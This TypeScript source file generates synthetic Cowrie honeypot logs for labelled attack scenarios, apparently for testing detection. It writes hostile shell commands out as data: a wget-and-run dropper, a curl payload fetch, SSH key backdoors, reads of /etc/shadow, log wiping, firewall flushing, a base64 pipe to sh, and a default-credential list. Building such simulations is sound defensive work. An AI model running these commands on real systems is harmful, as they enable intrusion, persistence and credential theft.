/**
 * Scripted honeypot scenarios: each returns the Cowrie records of one actor (or, for
 * `trafficSpike`, a crowd) with offsets in ms from its start. The live generator
 * (generate.ts) schedules them; the replay injector (replay.ts) stamps them directly,
 * which is why attacks are built to meet their thresholds by construction.
 */
import { type SensorInfo, SessionScript, type Step } from "./_cowrie.ts";
import type { Rng } from "./_rng.ts";
import { SSH_CLIENTS, type SshClient } from "./_ssh_clients.ts";

/** Scenario names; the attack ones are also the label `type`s. */
export const ATTACK_TYPES = [
  "brute_force",
  "slow_brute_force",
  "port_scan",
  "malware_download",
  "traffic_spike",
  "unusual",
] as const;
export type AttackType = typeof ATTACK_TYPES[number];
export const BACKGROUND_TYPES = ["scanner", "noisy_scanner", "normal_login", "proxy_bot"] as const;
export type BackgroundType = typeof BACKGROUND_TYPES[number];

export interface Scenario {
  type: AttackType | BackgroundType;
  /** Source address, `"*"` for global scenarios. */
  ip: string;
  /** True for attacks: their records carry a label. */
  attack: boolean;
  /** Sorted by `at`. */
  steps: Step[];
}

const [LIBSSH, GO, ZGRAB, LIBSSH2, PARAMIKO, OPENSSH87, OPENSSH96, PUTTY] = SSH_CLIENTS;
const BOT_CLIENTS: SshClient[] = [LIBSSH, LIBSSH, LIBSSH, GO, GO, ZGRAB, LIBSSH2, PARAMIKO, OPENSSH87];
const HUMAN_CLIENTS: SshClient[] = [OPENSSH96, OPENSSH96, OPENSSH87, PUTTY];

const CREDENTIALS: [string, string][] = [
  ["root", "123456"],
  ["root", "root"],
  ["admin", "admin"],
  ["root", "password"],
  ["ubuntu", "ubuntu"],
  ["test", "test"],
  ["user", "user"],
  ["oracle", "oracle"],
  ["postgres", "postgres"],
  ["pi", "raspberry"],
  ["root", "12345678"],
  ["admin", "1234"],
  ["support", "support"],
  ["ftpuser", "ftpuser"],
  ["git", "git"],
  ["root", "qwerty"],
  ["root", "admin123"],
  ["root", "P@ssw0rd"],
  ["guest", "guest"],
  ["deploy", "deploy123"],
  ["hadoop", "hadoop"],
  ["root", "1qaz2wsx"],
  ["sa", "sa"],
  ["es", "elastic"],
];

// First octets of busy, public, non-reserved space. Attackers of the scripted scenarios
// and the background crowd draw from disjoint lists, so an attack IP is always "new".
const BACKGROUND_NETS = [5, 14, 27, 36, 39, 42, 43, 49, 58, 59, 60, 61, 77, 78, 79, 80, 81, 82, 83, 84];
const ATTACK_NETS = [
  45,
  46,
  62,
  87,
  89,
  91,
  92,
  93,
  94,
  95,
  103,
  109,
  141,
  159,
  167,
  176,
  178,
  185,
  193,
  194,
];

/** A plausible public IPv4 address; `attacker` picks from the attack networks. */
export function publicIp(rng: Rng, attacker: boolean): string {
  const nets = attacker ? ATTACK_NETS : BACKGROUND_NETS;
  return `${rng.pick(nets)}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
}

function scenario(type: Scenario["type"], ip: string, attack: boolean, scripts: SessionScript[]): Scenario {
  const steps = scripts.flatMap((s) => s.steps);
  steps.sort((a, b) => a.at - b.at);
  return { type, ip, attack, steps };
}

/** Internet noise: connect, banner exchange, key exchange, gone. */
export function scanner(rng: Rng, info: SensorInfo, ip: string): Scenario {
  const s = new SessionScript(rng, info, ip, 0).connect().wait(rng.range(5, 150));
  if (rng.chance(0.85)) {
    s.handshake(rng.pick(BOT_CLIENTS));
  }
  s.wait(rng.range(50, 2500)).closed();
  return scenario("scanner", ip, false, [s]);
}

/** A bot that tries one or two passwords and leaves (below any brute-force threshold). */
export function noisyScanner(rng: Rng, info: SensorInfo, ip: string): Scenario {
  const s = new SessionScript(rng, info, ip, 0).connect().wait(rng.range(5, 150));
  s.handshake(rng.pick(BOT_CLIENTS));
  for (let i = rng.int(1, 2); i > 0; i--) {
    const [u, p] = rng.pick(CREDENTIALS);
    s.wait(rng.range(300, 3000)).login(false, u, p);
  }
  s.wait(rng.range(50, 1500)).closed();
  return scenario("noisy_scanner", ip, false, [s]);
}

const NORMAL_COMMANDS = [
  "ls",
  "ls -la",
  "uname -a",
  "w",
  "uptime",
  "df -h",
  "free -m",
  "cat /etc/os-release",
  "ps aux",
  "top -bn1",
  "whoami",
  "id",
  "cd /var/log",
  "history",
  "exit",
];

/** What an operator would do: log in, look around, leave. */
export function normalLogin(rng: Rng, info: SensorInfo, ip: string): Scenario {
  const s = new SessionScript(rng, info, ip, 0).connect().wait(rng.range(5, 80));
  s.handshake(rng.pick(HUMAN_CLIENTS)).wait(rng.range(800, 6000));
  s.login(
    true,
    rng.pick(["admin", "ubuntu", "deploy", "pi"]),
    rng.pick(["Summer2024!", "ubuntu", "raspberry"]),
  );
  s.wait(rng.range(100, 400)).shell(
    rng.int(80, 240),
    rng.int(24, 70),
    rng.chance(0.6) ? "en_US.UTF-8" : undefined,
  );
  for (let i = rng.int(2, 5); i > 0; i--) s.wait(rng.range(1500, 9000)).command(rng.pick(NORMAL_COMMANDS));
  s.wait(rng.range(500, 3000)).ttyClosed(rng.int(200, 6000)).wait(rng.range(1, 20)).closed();
  return scenario("normal_login", ip, false, [s]);
}

/** A spam/proxy bot checking whether the honeypot forwards (one or two well-known targets). */
export function proxyBot(rng: Rng, info: SensorInfo, ip: string): Scenario {
  const s = new SessionScript(rng, info, ip, 0).connect().wait(rng.range(5, 150));
  s.handshake(rng.pick(BOT_CLIENTS)).wait(rng.range(300, 2000));
  const [u, p] = rng.pick(CREDENTIALS);
  s.login(true, u, p).wait(rng.range(100, 800));
  const target = rng.pick(
    [
      ["azenv.net", 80, "b'GET / HTTP/1.1\\r\\nHost: azenv.net\\r\\n\\r\\n'"],
      ["google.com", 443, undefined],
      ["smtp.mail.ru", 25, "b'EHLO User\\r\\n'"],
      ["ip-api.com", 80, "b'GET /json HTTP/1.1\\r\\nHost: ip-api.com\\r\\n\\r\\n'"],
    ] as const,
  );
  s.forward(target[0], target[1], target[2]);
  s.wait(rng.range(200, 3000)).closed();
  return scenario("proxy_bot", ip, false, [s]);
}

export interface BruteForceOptions {
  /** Failed logins in all (default 12-24). */
  failures?: number;
  /** Every failure falls within this many ms of the first (default 100 000). */
  withinMs?: number;
  /** End with a successful login (default: a 1 in 3 chance). */
  success?: boolean;
}

/**
 * A fast brute force: one IP, several connections of 3-5 failed logins each, all
 * failures within `withinMs` (>= 10 in 2 min by default; fail2ban counts 5 in 10 min).
 */
export function bruteForce(rng: Rng, info: SensorInfo, ip: string, opts: BruteForceOptions = {}): Scenario {
  const failures = opts.failures ?? rng.int(12, 24);
  const within = opts.withinMs ?? 100_000;
  const success = opts.success ?? rng.chance(1 / 3);
  const gap = within / failures; // mean spacing that keeps every failure inside the window
  const client = rng.pick(BOT_CLIENTS);
  const scripts: SessionScript[] = [];
  let at = 0;
  let left = failures;
  while (left > 0 || success) {
    const s = new SessionScript(rng, info, ip, at).connect().wait(rng.range(5, 60)).handshake(client);
    const n = Math.min(left, rng.int(3, 5));
    for (let i = 0; i < n; i++) {
      s.wait(rng.range(0.5, 0.9) * gap).login(false, ...rng.pick(CREDENTIALS));
    }
    left -= n;
    if (left === 0 && success) {
      s.wait(rng.range(0.5, 0.9) * gap).login(
        true,
        "root",
        rng.pick(["admin", "toor", "1qaz@WSX", "changeme"]),
      );
      s.wait(rng.range(500, 2000)).command("uname -a; nproc; cat /proc/cpuinfo | grep name | head -n 1");
      s.wait(rng.range(200, 1500)).closed();
      scripts.push(s);
      break;
    }
    s.wait(rng.range(20, 200)).closed();
    scripts.push(s);
    at = s.t + rng.range(50, 400);
  }
  return scenario("brute_force", ip, true, scripts);
}

/** A slow brute force: one failed login per connection every 60-120 s, for `attempts` tries. */
export function slowBruteForce(rng: Rng, info: SensorInfo, ip: string, attempts = rng.int(30, 45)): Scenario {
  const client = rng.pick(BOT_CLIENTS);
  const scripts: SessionScript[] = [];
  let at = 0;
  for (let i = 0; i < attempts; i++) {
    const s = new SessionScript(rng, info, ip, at).connect().wait(rng.range(5, 60)).handshake(client);
    s.wait(rng.range(400, 2000)).login(false, ...rng.pick(CREDENTIALS)).wait(rng.range(20, 200)).closed();
    scripts.push(s);
    at += rng.range(60_000, 120_000);
  }
  return scenario("slow_brute_force", ip, true, scripts);
}

const SCAN_PORTS = [
  21,
  22,
  23,
  25,
  53,
  80,
  110,
  111,
  135,
  139,
  143,
  443,
  445,
  465,
  587,
  993,
  995,
  1433,
  1521,
  2375,
  3306,
  3389,
  5432,
  5900,
  5985,
  6379,
  8000,
  8080,
  8443,
  8888,
  9000,
  9200,
  11211,
  27017,
];

export interface PortScanOptions {
  /** Distinct destination ports (default 20-30, at most 34). */
  ports?: number;
  /** All requests fall within this many ms (default 45 000). */
  withinMs?: number;
}

/** A port scan through the honeypot: one session, many `direct-tcpip.request`s to distinct ports. */
export function portScan(rng: Rng, info: SensorInfo, ip: string, opts: PortScanOptions = {}): Scenario {
  const n = Math.min(opts.ports ?? rng.int(20, 30), SCAN_PORTS.length);
  const within = opts.withinMs ?? 45_000;
  const ports = [...SCAN_PORTS];
  for (let i = ports.length - 1; i > 0; i--) {
    const j = rng.int(0, i);
    [ports[i], ports[j]] = [ports[j], ports[i]];
  }
  const target = `10.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
  const s = new SessionScript(rng, info, ip, 0).connect().wait(rng.range(5, 60)).handshake(
    rng.pick(BOT_CLIENTS),
  );
  s.wait(rng.range(300, 1500)).login(true, ...rng.pick(CREDENTIALS)).wait(rng.range(100, 500));
  const gap = within / n;
  for (const port of ports.slice(0, n)) s.forward(target, port).wait(rng.range(0.3, 0.95) * gap);
  s.closed();
  return scenario("port_scan", ip, true, [s]);
}

const DROPPERS = ["x.sh", "bins.sh", "ohshit.sh", "8UsA.sh", "sora.sh", "mips", "arm7", "kinsing"];

/** A dropper session: log in, `cd /tmp; wget ...; sh ...`, file stored, gone. */
export function malwareDownload(rng: Rng, info: SensorInfo, ip: string): Scenario {
  const host = publicIp(rng, true);
  const file = rng.pick(DROPPERS);
  const url = `http://${host}/${file}`;
  const s = new SessionScript(rng, info, ip, 0).connect().wait(rng.range(5, 60)).handshake(
    rng.pick(BOT_CLIENTS),
  );
  s.wait(rng.range(300, 1500)).login(true, ...rng.pick(CREDENTIALS)).wait(rng.range(200, 900));
  s.command(`cd /tmp || cd /var/run || cd /mnt; wget ${url}; chmod 777 ${file}; sh ${file}; rm -rf ${file}`);
  s.wait(rng.range(300, 2500)).download(url, rng.hex(64), `/tmp/${file}`);
  s.wait(rng.range(500, 3000)).closed();
  return scenario("malware_download", ip, true, [s]);
}

const RARE_COMMANDS = [
  "cat /proc/cpuinfo | grep name | wc -l",
  "crontab -l",
  "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0 mdrfckr' >> ~/.ssh/authorized_keys",
  "chattr -ia .ssh",
  "lscpu | grep Model",
  "nvidia-smi -q | grep 'Product Name'",
  "cat /etc/shadow",
  "iptables -F",
  "systemctl stop firewalld",
  "pkill -9 xmrig",
  "ls -la /dev/shm",
  "netstat -plnt",
  "dd if=/dev/zero of=/dev/null bs=1M count=100",
  "base64 -d <<< Y3VybCAtcyBodHRwOi8vZXhhbXBsZQ== | sh",
  "ulimit -n 65535",
  "history -c",
  "rm -rf /var/log/wtmp",
  "useradd -m -s /bin/bash sysadm",
  "echo 'sysadm:Passw0rd!' | chpasswd",
  "find / -name '*.pem' 2>/dev/null",
  "docker ps -a",
  "kubectl get pods -A",
  "cat ~/.bash_history",
  "mount",
];

/** A session with rare behaviour: many distinct unusual commands and several downloads. */
export function unusual(rng: Rng, info: SensorInfo, ip: string): Scenario {
  const s = new SessionScript(rng, info, ip, 0).connect().wait(rng.range(5, 60)).handshake(OPENSSH96);
  s.wait(rng.range(1000, 4000)).login(true, "root", rng.pick(["toor", "hunter2", "Aa123456"]));
  s.wait(rng.range(100, 400)).shell(rng.int(120, 200), rng.int(30, 60), "C.UTF-8");
  const cmds = [...RARE_COMMANDS];
  for (let i = cmds.length - 1; i > 0; i--) {
    const j = rng.int(0, i);
    [cmds[i], cmds[j]] = [cmds[j], cmds[i]];
  }
  const nCmd = rng.int(15, 20);
  const nDl = rng.int(3, 4);
  for (let i = 0; i < nCmd; i++) {
    s.wait(rng.range(800, 4000)).command(cmds[i], rng.chance(0.8));
    if (i % 5 === 2 && i / 5 < nDl) {
      const file = `${rng.hex(6)}.${rng.pick(["sh", "bin", "py", "tgz"])}`;
      const url = `http://${publicIp(rng, true)}:${rng.pick([80, 8000, 8080, 443])}/${file}`;
      s.wait(rng.range(500, 2000)).command(`curl -fsSL -o /dev/shm/${file} ${url}`);
      s.wait(rng.range(300, 2500)).download(url, rng.hex(64), `/dev/shm/${file}`);
    }
  }
  s.wait(rng.range(500, 3000)).ttyClosed(rng.int(4000, 40000)).wait(rng.range(1, 20)).closed();
  return scenario("unusual", ip, true, [s]);
}

export interface TrafficSpikeOptions {
  /** Length of the burst in ms (default 30 000). */
  durationMs?: number;
  /** Distinct source IPs (default 150). */
  ips?: number;
}

/**
 * A global burst: many short scanner sessions from many IPs packed into `durationMs`
 * (a botnet sweep). Label ip `"*"`.
 */
export function trafficSpike(rng: Rng, info: SensorInfo, opts: TrafficSpikeOptions = {}): Scenario {
  const duration = opts.durationMs ?? 30_000;
  const n = opts.ips ?? 150;
  const scripts: SessionScript[] = [];
  for (let i = 0; i < n; i++) {
    const ip = publicIp(rng, true);
    const s = new SessionScript(rng, info, ip, rng.range(0, duration * 0.9)).connect().wait(
      rng.range(5, 100),
    );
    s.handshake(rng.pick(BOT_CLIENTS));
    if (rng.chance(0.5)) s.wait(rng.range(100, 800)).login(false, ...rng.pick(CREDENTIALS));
    // Keep every session inside the window: close after at most the time left.
    s.wait(Math.min(rng.range(50, 1000), Math.max(1, duration - s.t - 1))).closed();
    scripts.push(s);
  }
  return scenario("traffic_spike", "*", true, scripts);
}
